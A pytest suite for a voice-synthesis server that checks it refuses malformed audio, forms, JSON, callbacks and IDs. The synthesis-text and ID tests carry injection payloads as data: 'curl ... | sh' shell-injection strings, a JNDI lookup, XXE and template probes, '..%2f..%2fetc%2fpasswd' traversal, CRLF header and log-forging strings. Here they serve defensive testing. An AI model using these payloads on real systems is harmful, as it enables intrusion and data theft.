"""Files, texts and bodies that a server must refuse or accept."""

from __future__ import annotations

import io
import re
import socket
from collections.abc import Callable, Iterator

import httpx
import numpy as np
import pytest
import soundfile

from afterwords.audio.wav import REFERENCE_MAX_BYTES, canonical_wav, read_wav
from afterwords.text import max_speech_s
from tests.audio.test_wav import BAD, DATA, GOOD, GOOD_FILES, RATE, SIX_SECONDS, chunk, fmt, riff, tone
from tests.e2e.served import Served, register, serving, wait_for_job
from tests.e2e.wire import Answer, ask
from tests.server.services.test_decoding import by_libav

CALLBACK_SECRET = "a-callback-secret-that-workers-share"
JSON = ("Content-Type", "application/json")
LINE = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (INFO|WARNING|ERROR) \S")
UNKNOWN_ID = "00000000-0000-4000-8000-000000000000"


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    settings = {"AFTERWORDS_CALLBACK_SECRET": CALLBACK_SECRET}
    with serving(tmp_path_factory.mktemp("input") / "home", settings) as running:
        yield running


@pytest.fixture(scope="module")
def client(served: Served) -> Iterator[httpx.Client]:
    with served.client() as client:
        yield client


@pytest.fixture(scope="module")
def voice_id(client: httpx.Client) -> str:
    return register(client)


def upload(client: httpx.Client, wav: bytes, *, kind: str = "audio/wav", filename: str = "me.wav") -> httpx.Response:
    return client.post("/v1/voices", data={"name": "me"}, files={"ref_audio": (filename, wav, kind)})


def refusal(answer: httpx.Response | Answer) -> tuple[int, str]:
    """Return status and code of an error, and check its shape."""
    if isinstance(answer, Answer):
        return answer.status, answer.code
    error = answer.json()["error"]
    assert set(error) == {"code", "message", "type", "param", "request_id"}
    return answer.status_code, error["code"]


DECODED = ("FLAC", "OGG", "MP3")
"""Not WAV files, but accepted as their own format."""
UNKNOWN = ("PNG", "text", "gzip")
RECORDINGS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "m4a": ("audio/mp4", lambda: by_libav("ipod", "aac")),
    "webm": ("video/webm", lambda: by_libav("webm", "libopus")),
    "amr": ("audio/amr", lambda: by_libav("amr", "libopencore_amrnb", rate=8_000)),
}


class TestRecordings:
    @pytest.mark.parametrize("name", [name for name in BAD if name not in DECODED])
    def test_bad_file_is_refused_with_its_code(self, client: httpx.Client, name: str) -> None:
        code, make = BAD[name]
        assert refusal(upload(client, make())) == (422, "unsupported_audio" if name in UNKNOWN else code)

    @pytest.mark.parametrize("name", [*DECODED, *RECORDINGS])
    def test_every_audio_format_is_accepted(self, served: Served, client: httpx.Client, name: str) -> None:
        kind, make = RECORDINGS.get(name) or (f"audio/{name.lower()}", BAD[name][1])
        answer = upload(client, make(), kind=kind, filename="me")
        assert answer.status_code == 201, answer.text
        kept = served.home / "server" / "blobs" / "voices" / answer.json()["voice_id"] / "ref.wav"
        samples, rate = read_wav(kept.read_bytes())
        assert len(samples) / rate == pytest.approx(6, abs=0.1)
        assert np.abs(samples[rate:-rate]).max() == pytest.approx(0.5, abs=0.05)

    @pytest.mark.parametrize(("duration_s", "code"), [(4.9, "too_short"), (60.1, "too_long")])
    def test_length_limits_apply_to_every_format(self, client: httpx.Client, duration_s: float, code: str) -> None:
        file = io.BytesIO()
        soundfile.write(file, tone(duration_s), RATE, format="FLAC")
        assert refusal(upload(client, file.getvalue())) == (422, code)

    @pytest.mark.parametrize("name", GOOD_FILES)
    def test_good_file_is_stored_with_equal_audio(self, served: Served, client: httpx.Client, name: str) -> None:
        answer = upload(client, GOOD_FILES[name]())
        assert answer.status_code == 201, answer.text
        kept = served.home / "server" / "blobs" / "voices" / answer.json()["voice_id"] / "ref.wav"
        samples, rate = read_wav(kept.read_bytes())
        assert rate == RATE
        np.testing.assert_allclose(samples, SIX_SECONDS, atol=1 / 32_000)

    @pytest.mark.parametrize("duration_s", [5, 60])
    def test_length_limits_are_inclusive(self, client: httpx.Client, duration_s: int) -> None:
        assert upload(client, canonical_wav(tone(duration_s), RATE)).status_code == 201

    def test_file_of_exactly_20_mib_is_accepted(self, client: httpx.Client) -> None:
        wav = riff(fmt(), chunk(b"JUNK", bytes(REFERENCE_MAX_BYTES - len(GOOD) - 8)), DATA)
        assert len(wav) == REFERENCE_MAX_BYTES
        assert upload(client, wav).status_code == 201

    @pytest.mark.parametrize("kind", ["audio/wav", "audio/x-wav", "audio/wave", "application/octet-stream"])
    def test_usual_content_types_are_accepted(self, client: httpx.Client, kind: str) -> None:
        assert upload(client, GOOD, kind=kind).status_code == 201

    @pytest.mark.parametrize("kind", ["text/plain", "image/png", "application/json"])
    def test_another_content_type_is_refused(self, client: httpx.Client, kind: str) -> None:
        assert refusal(upload(client, GOOD, kind=kind)) == (422, "bad_content_type")

    def test_filename_is_ignored(self, served: Served, client: httpx.Client) -> None:
        before = {path for path in served.home.parent.rglob("*") if path.suffix == ".wav"}
        made = upload(client, GOOD, filename="../../../evil.wav").json()["voice_id"]
        after = {path for path in served.home.parent.rglob("*") if path.suffix == ".wav"}
        assert after - before == {served.home / "server" / "blobs" / "voices" / made / "ref.wav"}


class TestForms:
    HEAD = b'--b\r\nContent-Disposition: form-data; name="name"\r\n\r\nme\r\n'
    FILE = (
        b'--b\r\nContent-Disposition: form-data; name="ref_audio"; filename="x"\r\nContent-Type: audio/wav\r\n\r\n'
        + GOOD
        + b"\r\n"
    )

    @pytest.mark.parametrize(
        ("kind", "body"),
        [
            ("multipart/form-data", HEAD + FILE + b"--b--\r\n"),
            ("multipart/form-data; boundary=", HEAD + FILE + b"--b--\r\n"),
            ("multipart/form-data; boundary=other", HEAD + FILE + b"--b--\r\n"),
            ("multipart/form-data; boundary=b", HEAD + FILE),
            ("multipart/form-data; boundary=b", HEAD + FILE + FILE + b"--b--\r\n"),
            (
                "multipart/form-data; boundary=b",
                HEAD + b'--b\r\nContent-Disposition: form-data; name="ref_audio"\r\n\r\nhi\r\n--b--\r\n',
            ),
            ("multipart/form-data; boundary=b", HEAD.replace(b"me", b"\xff") + FILE + b"--b--\r\n"),
            ("multipart/form-data; boundary=b", b""),
            ("application/json", b'{"name": "me"}'),
            ("application/x-www-form-urlencoded", b"name=me"),
        ],
        ids=["no boundary", "empty boundary", "other boundary", "unterminated", "two files", "file as text", "UTF-8",
             "nothing", "JSON", "urlencoded"],
    )  # fmt: skip
    def test_malformed_form_is_refused(self, client: httpx.Client, kind: str, body: bytes) -> None:
        answer = client.post("/v1/voices", content=body, headers={"Content-Type": kind})
        assert refusal(answer) == (400, "invalid_multipart")

    def test_well_formed_form_is_accepted(self, client: httpx.Client) -> None:
        kind = {"Content-Type": "multipart/form-data; boundary=b"}
        assert client.post("/v1/voices", content=self.HEAD + self.FILE + b"--b--\r\n", headers=kind).status_code == 201


class TestTexts:
    def say(self, client: httpx.Client, voice_id: str, text: str) -> httpx.Response:
        return client.post("/v1/synthesize", json={"voice_id": voice_id, "text": text})

    @pytest.mark.parametrize("text", ["...", "!?" * 2_500, "\u3002" * 5_000, "—" * 5_000, "\u0301" * 100])
    def test_punctuation_only_is_refused_or_bounded(self, client: httpx.Client, voice_id: str, text: str) -> None:
        answer = self.say(client, voice_id, text)
        if answer.status_code == 422:
            assert refusal(answer) == (422, "empty_text")
            return
        job = wait_for_job(client, answer.json()["job_id"])
        audio = client.get(f"/v1/jobs/{job['job_id']}/audio")
        samples, rate = read_wav(audio.content)
        assert len(samples) / rate <= max_speech_s(text)

    @pytest.mark.parametrize(
        "text",
        [
            '<speak><audio src="http://{here}/x.wav"/>hi<break time="9999s"></speak>',
            "<script>fetch('http://{here}/')</script>",
            '<!DOCTYPE x [<!ENTITY y SYSTEM "http://{here}/z">]><x>&y;</x>',
            "{{{{ 7 * 7 }}}} ${{jndi:ldap://{here}/x}} #{{7*7}} <%= 7 * 7 %> %(name)s {{0.__class__}}",
            "$(curl http://{here}/) `curl http://{here}/` ; curl http://{here}/ | sh",
        ],
        ids=["SSML", "script", "XML", "templates", "shell"],
    )
    def test_markup_is_synthesized_as_text(self, client: httpx.Client, voice_id: str, text: str) -> None:
        with socket.create_server(("127.0.0.1", 0)) as listening:
            text = text.format(here=f"127.0.0.1:{listening.getsockname()[1]}")
            job = wait_for_job(client, self.say(client, voice_id, text).json()["job_id"])
            listening.setblocking(False)
            with pytest.raises(BlockingIOError):
                listening.accept()
        samples, rate = read_wav(client.get(f"/v1/jobs/{job['job_id']}/audio").content)
        assert len(samples) == pytest.approx(
            0.06 * len(text) * rate, abs=2
        )  # the length of any text with the tone engine

    @pytest.mark.parametrize(
        "raw", [rb"a\ud800b", rb"\udc00", rb"\ud800\ud800", rb"\ud83dx", rb"\ude00\ud83d"], ids=lambda raw: raw.decode()
    )
    def test_lone_surrogate_is_refused(self, client: httpx.Client, voice_id: str, raw: bytes) -> None:
        body = b'{"voice_id": "%s", "text": "%s"}' % (voice_id.encode(), raw)
        answer = client.post("/v1/synthesize", content=body, headers=dict([JSON]))
        assert refusal(answer) == (422, "invalid_unicode")

    def test_surrogate_pair_is_one_character(self, client: httpx.Client, voice_id: str) -> None:
        body = rb'{"voice_id": "%s", "text": "hi \ud83d\ude00"}' % voice_id.encode()
        assert client.post("/v1/synthesize", content=body, headers=dict([JSON])).status_code == 202


class TestJson:
    @pytest.mark.parametrize(
        ("body", "expected"),
        [
            (b'{"voice_id": "%s", "text": NaN}', (422, "invalid_field")),
            (b'{"voice_id": "%s", "text": 1e400}', (422, "invalid_field")),
            (b'{"voice_id": "%s", "text": "a", "speed": NaN}', (422, "invalid_field")),
            (b'{"voice_id": "%s", "text": "a", "speed": 1e400}', (422, "invalid_field")),
            (b'{"voice_id": "%s", "text": "a", "speed": -Infinity}', (422, "invalid_field")),
            (b'{"voice_id": "%s", "text": "a", "speed": "1"}', (422, "invalid_field")),
            (b'{"voice_id": "%s", "text": "a", "stream": 1}', (422, "invalid_field")),
            (b'{"voice_id": "%s", "text": null}', (422, "invalid_field")),
            (b'{"voice_id": "%s", "text": ["a"]}', (422, "invalid_field")),
            (b'{"voice_id": "%s", "text": "a", "seed": ' + b"9" * 5_000 + b"}", (400, "invalid_json")),
            (b'{"voice_id": "%s", "text": "\xff"}', (400, "invalid_json")),
            (b'{"voice_id": "%s", "text": "\xed\xa0\x80"}', (400, "invalid_json")),
            (b'{"voice_id": "%s", "text": "a"', (400, "invalid_json")),
            (b'{"voice_id": "%s"}', (400, "missing_field")),
            (b"[" * 100_000, (400, "invalid_json")),
            (b"[" * 50_000 + b"]" * 50_000, (400, "invalid_json")),
            (b'{"text": ' * 10_000, (400, "invalid_json")),
            (b"[]", (400, "invalid_json")),
            (b"null", (400, "invalid_json")),
            (b'"text"', (400, "invalid_json")),
            (b"5", (400, "invalid_json")),
            (b"", (400, "invalid_json")),
            ('{"text": "a"}'.encode("utf-16"), (400, "invalid_json")),
        ],
        ids=lambda value: repr(value)[:40] if isinstance(value, bytes) else "",
    )
    def test_malformed_body_is_refused(
        self, client: httpx.Client, voice_id: str, body: bytes, expected: tuple[int, str]
    ) -> None:
        content = body.replace(b"%s", voice_id.encode())
        assert refusal(client.post("/v1/synthesize", content=content, headers=dict([JSON]))) == expected

    @pytest.mark.parametrize("kind", ["text/plain", "application/x-www-form-urlencoded", "application/jsonp", ""])
    def test_another_content_type_is_refused(self, client: httpx.Client, kind: str) -> None:
        answer = client.post(
            "/v1/synthesize", content=b'{"voice_id": "x", "text": "a"}', headers={"Content-Type": kind}
        )
        assert refusal(answer) == (400, "invalid_json")

    @pytest.mark.parametrize("n_bytes", [128 * 1024 + 1, 60_000_000])
    @pytest.mark.parametrize("is_announced", [True, False])
    def test_body_over_128_kib_is_refused(self, served: Served, n_bytes: int, is_announced: bool) -> None:
        key = ("Authorization", f"Bearer {served.key}")
        text = b'{"text": "%s"}' % (b"a" * (n_bytes - 12))
        if is_announced:
            answer = ask(served, "POST", "/v1/synthesize", [key, JSON, ("Content-Length", str(len(text)))], text)
        else:
            body = b"%x\r\n%s\r\n0\r\n\r\n" % (len(text), text)
            answer = ask(served, "POST", "/v1/synthesize", [key, JSON, ("Transfer-Encoding", "chunked")], body)
        assert (answer.status, answer.code) == (413, "request_too_large")

    def test_body_of_exactly_128_kib_is_read(self, client: httpx.Client, voice_id: str) -> None:
        body = b'{"voice_id": "%s", "text": "%s"}' % (voice_id.encode(), b"a" * (128 * 1024 - 64))
        assert len(body) == 128 * 1024
        assert refusal(client.post("/v1/synthesize", content=body, headers=dict([JSON]))) == (422, "text_too_long")

    @pytest.mark.parametrize("value", ["NaN", "1e400", "-Infinity", '[{"b": 1e999}]', '"a\\u0000"', '"a\\\\\\u0000"'])
    def test_metadata_that_json_cannot_encode_is_refused(self, client: httpx.Client, voice_id: str, value: str) -> None:
        body = f'{{"metadata": {{"a": {value}}}}}'
        answer = client.patch(f"/v1/voices/{voice_id}", content=body, headers=dict([JSON]))
        assert refusal(answer) == (422, "invalid_field")

    def test_metadata_round_trips(self, client: httpx.Client, voice_id: str) -> None:
        metadata = {"a": [1.5, 10**30, None, True, {"\u202e": "\\u0000 \U0001f600"}], "": "<script>"}
        assert client.patch(f"/v1/voices/{voice_id}", json={"metadata": metadata}).json()["metadata"] == metadata
        bundle = client.get(f"/v1/voices/{voice_id}/export").content
        brought = client.post("/v1/voices/import", content=bundle).json()["voice_id"]
        assert client.get(f"/v1/voices/{brought}").json()["metadata"] == metadata


class TestCallbacks:
    @pytest.mark.parametrize(
        "body",
        [
            b'{"job_id": "%s", "wav_b64": NaN}',
            '{"job_id": "%s", "wav_b64": "ü"}'.encode(),
            b'{"job_id": "%s", "wav_b64": 5}',
            rb'{"job_id": "%s", "error": "\ud800"}',
            b'{"job_id": 5}',
            b"[]",
            b"null",
            b"",
            b"[" * 100_000,
            b"\xff",
        ],
        ids=lambda body: repr(body)[:30],
    )
    def test_malformed_result_is_refused(self, served: Served, client: httpx.Client, body: bytes) -> None:
        voice = register(client)
        job = client.post("/v1/synthesize", json={"voice_id": voice, "text": f"fault-slow {'a' * 1_000}"}).json()[
            "job_id"
        ]
        with served.client(CALLBACK_SECRET) as worker:
            answer = worker.post(f"/v1/jobs/{job}/complete", content=body.replace(b"%s", job.encode()))
        client.delete(f"/v1/jobs/{job}")
        assert answer.status_code in (400, 409, 422)  # 409: a worker claimed the job in the meantime
        assert refusal(answer)[1] in ("invalid_json", "invalid_field", "missing_field", "stale_attempt")


IDS = ["../", "..%2f..%2fetc%2fpasswd", "%00", "%ff", "%ed%a0%80", "%0d%0aX-Evil:%201", "a" * 60_000, "%2e%2e",
       UNKNOWN_ID.upper().replace("0", "A"), f"{UNKNOWN_ID}%00", f"{UNKNOWN_ID}%0a", " ", "*", "{id}", "0"]  # fmt: skip


class TestIds:
    @pytest.mark.parametrize("bad", IDS, ids=lambda bad: bad[:20])
    @pytest.mark.parametrize(
        ("method", "path"),
        [
            ("GET", "/v1/voices/{}"),
            ("DELETE", "/v1/voices/{}"),
            ("GET", "/v1/voices/{}/export"),
            ("GET", "/v1/jobs/{}"),
            ("GET", "/v1/jobs/{}/audio"),
            ("DELETE", "/v1/keys/{}"),
        ],
    )
    def test_malformed_id_returns_404(self, served: Served, method: str, path: str, bad: str) -> None:
        if bad == " ":
            bad = "%20"
        answer = ask(served, method, path.format(bad), [("Authorization", f"Bearer {served.key}")])
        assert (answer.status, answer.error["type"]) == (404, "not_found_error")
        assert answer.code in ("not_found", "voice_not_found", "job_not_found", "key_not_found")
        assert "x-evil" not in answer.headers

    @pytest.mark.parametrize("bad", ["../x", "\x00", "a" * 60_000, f"{UNKNOWN_ID}\n"])
    def test_malformed_voice_id_in_body_returns_404(self, client: httpx.Client, bad: str) -> None:
        answer = client.post("/v1/synthesize", json={"voice_id": bad, "text": "hi"})
        assert refusal(answer) == (404, "voice_not_found")


def test_input_cannot_forge_log_lines(served: Served, client: httpx.Client, voice_id: str) -> None:
    forged = "hi\r\n2026-01-01 00:00:00,000 ERROR forged"
    key = ("Authorization", f"Bearer {served.key}")
    client.post("/v1/synthesize", json={"voice_id": voice_id, "text": forged})
    client.post("/v1/synthesize", json={"voice_id": voice_id, "text": "hi", "lang": forged})
    client.patch(f"/v1/voices/{voice_id}", json={"name": forged})
    client.patch(f"/v1/voices/{voice_id}", json={"ref_text": forged, "metadata": {forged: forged}})
    served.new_key(label=forged)
    upload(client, GOOD, filename=forged)
    ask(served, "GET", "/v1/voices/%0d%0a2026 ERROR forged".replace(" ", "%20"), [key])
    ask(served, "GET", "/v1/voices?after=%0d%0aERROR%20forged", [key])
    ask(served, "GET", "/v1/voices", [key, ("X-Request-Id", b"a\nERROR forged")])
    ask(served, "GET", "/v1/voices", [key, ("User-Agent", b"a\r ERROR forged")])
    ask(
        served, "POST", "/v1/synthesize", [key, JSON, ("Idempotency-Key", b"\x0bERROR forged"), ("Content-Length", "0")]
    )
    ask(served, "ERROR", "/forged")
    lines = served.log.read_text().partition("Ctrl-C stops it.\n")[2].splitlines()
    assert not [line for line in lines if "forged" in line]
    assert not [line for line in lines if not LINE.match(line)]
